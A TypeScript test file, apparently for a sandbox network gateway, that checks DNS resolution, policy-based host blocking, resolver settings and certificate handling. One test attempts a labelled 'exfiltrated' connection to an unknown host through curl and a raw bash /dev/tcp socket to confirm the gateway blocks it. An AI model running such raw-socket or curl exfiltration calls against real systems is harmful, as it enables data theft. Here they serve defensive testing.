import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { TestGateway, type TestSandbox } from "../../support/api.ts";
import { marker, type TestHost, TestInternet } from "../../support/internet/index.ts";
import { expectNoLeaks, type Inventory, takeInventory } from "../../support/leaks.ts";
import { withoutProxy } from "./clients.ts";

const POLICY = `
version: 1
network_policies:
  api:
    endpoints:
      - { host: api.example-allowed.com, port: 443, protocol: rest, enforcement: enforce, access: read-only }
      - { host: absent.example-allowed.com, port: 443, protocol: rest, enforcement: enforce, access: read-only }
      - { host: plain.example-allowed.com, port: 7 }
    binaries: [{ path: "/**" }]
`;

let before: Inventory;
let net: TestInternet;
let api: TestHost;

beforeAll(async () => {
  before = takeInventory();
  net = await TestInternet.start();
  api = await net.host("api.example-allowed.com");
  await net.host("plain.example-allowed.com");
});

afterAll(async () => {
  await net?.[Symbol.asyncDispose]();
  await expectNoLeaks(before);
});

describe("names", () => {
  let gateway: TestGateway;
  let sandbox: TestSandbox;

  beforeAll(async () => {
    gateway = await TestGateway.start(net);
    sandbox = await gateway.create({ policy: POLICY });
  });

  afterAll(() => gateway?.[Symbol.asyncDispose]());

  const address = async (name: string): Promise<string> => {
    const result = await sandbox.exec(["getent", "ahosts", name]);
    expect(result.exitCode, name).toBe(0);
    return result.stdout.split(/\s/)[0]!;
  };

  test("every name resolves inside, to an address that means nothing outside, and nobody is asked", async () => {
    const unknown = `${marker("name")}.example-unknown.net`;
    net.dns.clearQueries();
    for (const name of [api.name, unknown, "localhost.example-unknown.net"]) {
      expect(await address(name)).toMatch(/^198\.1[89]\./);
      const v6 = await sandbox.exec(["getent", "ahostsv6", name]);
      expect(v6.stdout.split("\n").filter((line) => line !== "" && !line.startsWith("::ffff:198.1"))).toEqual([]);
    }
    expect(net.dns.queries()).toEqual([]);
  });

  test("a name that the policy mentions keeps its address; looking at many others does not take it", async () => {
    const first = await address(api.name);
    const many = Array.from({ length: 100 }, (_, n) => `n${n}.example-unknown.net`).join(" ");
    await sandbox.sh(`for name in ${many}; do getent hosts $name >/dev/null; done`, { timeoutMs: 60_000 });
    expect(await address(api.name)).toBe(first);
  });

  test("a name that the policy does not mention is refused where it is used, without a look-up", async () => {
    net.dns.clearQueries();
    const name = `${marker("exfiltrated")}.example-unknown.net`;
    const tls = await sandbox.exec(withoutProxy(["curl", "-sS", "--max-time", "10", `https://${name}/`]));
    expect(tls.stdout).toContain("not allowed by any policy");
    const raw = await sandbox.exec(["bash", "-c", `exec 3<>/dev/tcp/${name}/443 && echo hello >&3 && cat <&3`]);
    expect(raw.stdout).toBe("");
    expect(raw.stderr).toMatch(/reset/i);
    expect(net.dns.queries()).toEqual([]);
  });

  test("an allowed name is asked for once a connection, at the resolvers of gateway.toml", async () => {
    net.dns.clearQueries();
    const result = await sandbox.exec(["curl", "-sS", api.url("/a"), api.url("/b")]);
    expect(result.stdout).toContain('"target":"/b"');
    const asked = net.dns.queries().map(({ name, type }) => `${type} ${name}`);
    expect([...new Set(asked)].sort()).toEqual([`A ${api.name}`, `AAAA ${api.name}`]);
    expect(asked.length).toBe(2);
  });

  test("an allowed name that does not exist is a 502 that says so", async () => {
    const result = await sandbox.exec(withoutProxy(["curl", "-sS", "https://absent.example-allowed.com/"]));
    expect(result.stdout).toContain("absent.example-allowed.com");
    expect(result.stdout).toMatch(/"next":"[^"]+"/);
  });

  test("raw bytes to an allowed name that is not inspected", async () => {
    const script = "exec 3<>/dev/tcp/plain.example-allowed.com/7 && echo hello >&3 && head -n 1 <&3";
    const result = await sandbox.exec(["bash", "-c", script]);
    expect(result).toMatchObject({ stdout: "hello\n", exitCode: 0 });
  });
});

describe("gateway.toml", () => {
  const ask = async (gateway: TestGateway): Promise<string> => {
    await using sandbox = await gateway.create({ policy: POLICY });
    const result = await sandbox.exec(withoutProxy(["curl", "-sS", "-w", "%{http_code}", api.url("/x")]));
    return `${result.stdout}${result.stderr}`;
  };

  test("without additional_ca_bundle a host of an unknown authority is refused, and nothing is sent to it", async () => {
    await using gateway = await TestGateway.start(net, { gateway: { caFile: undefined } as never });
    api.clearReceived();
    const answer = await ask(gateway);
    expect(answer).toMatch(/502$/m);
    expect(answer).toMatch(/certificate/i);
    expect(api.received().requests).toEqual([]);
  });

  test("without resolvers the machine's own are asked, and there are none here", async () => {
    await using gateway = await TestGateway.start(net, { gateway: { resolvers: undefined } as never });
    api.clearReceived();
    const answer = await ask(gateway);
    expect(answer).toMatch(/50[24]$/m);
    expect(answer).toContain(api.name);
    expect(api.received().connections).toEqual([]);
  });

  test("a resolver that does not answer is not waited for endlessly", async () => {
    await using gateway = await TestGateway.start(net, { gateway: { resolvers: [`${api.ipv4}:53`] } });
    const startedAt = performance.now();
    expect(await ask(gateway)).toMatch(/50[24]$/m);
    expect(performance.now() - startedAt).toBeLessThan(30_000);
  });
});
